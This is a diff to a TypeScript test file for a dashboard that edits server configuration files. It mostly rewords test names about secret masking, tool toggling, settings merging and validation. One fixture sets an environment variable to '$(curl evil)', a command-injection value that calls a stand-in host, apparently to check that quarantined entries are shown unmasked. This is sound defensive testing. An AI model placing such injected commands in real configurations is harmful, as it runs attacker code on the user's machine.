@@ -1,4 +1,4 @@
-/** What a person changes through the dashboard ends in the config file, secrets and comments unharmed. */
+/** Edits from the dashboard reach the config file, and keep its secrets and comments. */
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -25,37 +25,37 @@ const git = `{ // mine
 }
 `;
 
-test('an entry is shown with its secrets masked', async () => {
+test('returns an entry with its secrets masked', async () => {
   const { edits } = await editing(git);
   expect(await edits.maskedEntry('git')).toMatchObject({ command: 'node', env: { API_KEY: '***' } });
 });
 
-test('of a server that waits for the person it is shown letter by letter: switching it on starts that', async () => {
+test('returns the entry of a quarantined server unmasked, since enabling it runs what it shows', async () => {
   const { edits } = await editing(
     '{ "servers": { "odd": { "command": "node", "env": { "API_KEY": "$(curl evil)" }, "quarantined": true } } }',
   );
   expect(await edits.maskedEntry('odd')).toMatchObject({ env: { API_KEY: '$(curl evil)' } });
 });
 
-test('what comes back masked keeps what is there; comments stay', async () => {
+test('keeps the stored value of a masked secret, and keeps comments', async () => {
   const { edits, text } = await editing(git);
   await edits.save('git', { ...(await edits.maskedEntry('git')), args: ['-v'] }, true);
   expect(text()).toBe(git.replace('["--version"]', '["-v"]'));
 });
 
-test('a masked value that was edited is refused', async () => {
+test('rejects an edited masked value', async () => {
   const { edits, text } = await editing(git);
   const edited = edits.save('git', { command: 'node', env: { API_KEY: '***x' } }, true);
   await expect(edited).rejects.toMatchObject({ code: 'bad_request' });
   expect(text()).toBe(git);
 });
 
-test('a name that is taken is not replaced unasked', async () => {
+test('rejects a name that is taken unless replacing is requested', async () => {
   const { edits } = await editing(git);
   await expect(edits.save('git', { command: 'x' }, false)).rejects.toMatchObject({ code: 'config_conflict' });
 });
 
-test('tools are switched off and on, and the key goes with the last one', async () => {
+test('disables and enables tools, and removes the key with the last one', async () => {
   const { edits, text } = await editing(git);
   await edits.setToolEnabled('git', 'push', false);
   const off = text();
@@ -63,7 +63,7 @@ test('tools are switched off and on, and the key goes with the last one', async 
   expect([off.includes('"disabledTools": ["push"]'), text()]).toEqual([true, git]);
 });
 
-test('switching a tool on that an allow list leaves out adds it there', async () => {
+test('adds an enabled tool to an allow list that lacks it', async () => {
   const { edits, text } = await editing(
     '{ "servers": { "a": { "command": "x", "enabled": false, "enabled_tools": ["one"] } } }',
   );
@@ -71,7 +71,7 @@ test('switching a tool on that an allow list leaves out adds it there', async ()
   expect(JSON.parse(text())).toMatchObject({ servers: { a: { enabled_tools: ['one', 'two'] } } });
 });
 
-test('members of a group of settings are merged, and an empty group goes', async () => {
+test('merges the members of a settings group, and removes an empty group', async () => {
   const { edits, text } = await editing('{ "results": { "toon": true } }');
   await edits.merge('results', { retentionDays: 3 });
   const both = JSON.parse(text()) as unknown;
@@ -79,7 +79,7 @@ test('members of a group of settings are merged, and an empty group goes', async
   expect([both, JSON.parse(text())]).toEqual([{ results: { toon: true, retentionDays: 3 } }, {}]);
 });
 
-test('rejects an edit that brings an error into the file, and writes nothing', async () => {
+test('rejects an edit that adds an error to the file, and writes nothing', async () => {
   const { edits, text } = await editing('{}');
   await expect(edits.save('bad', { args: [] }, false)).rejects.toMatchObject({ code: 'config_invalid' });
   expect(text()).toBe('{}');
